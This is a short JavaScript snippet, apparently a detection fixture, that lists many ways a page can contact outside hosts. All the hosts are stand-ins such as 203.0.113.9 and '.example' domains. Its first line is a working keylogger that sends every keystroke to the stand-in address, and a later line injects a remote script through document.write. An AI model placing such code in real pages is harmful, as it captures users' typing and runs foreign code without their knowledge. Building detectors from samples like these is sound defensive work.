document.onkeyup = function (e) { new Image().src = "http://203.0.113.9/?k=" + e.key; };
var h = "a.example", w = "https://" + h; fetch(`${w}/c?${k}`); x.open("POST", a ? "/b" : " //b.example", true);
$.ajax({ data: { url: "https://no.example/" }, url: location.protocol + "//" + "c.example/j" }); navigator["sendBeacon"]("wss://d.example", 1);
f.setAttribute("src", atob("Ly9lLmV4YW1wbGUv")); i["src"] = "https://" + n + ".example/"; function t(u) { new WebSocket(u); } t("ws://g.example/");
document.write("<script src='//h.example/a.js'><\/script><a href='//i.example/'>");
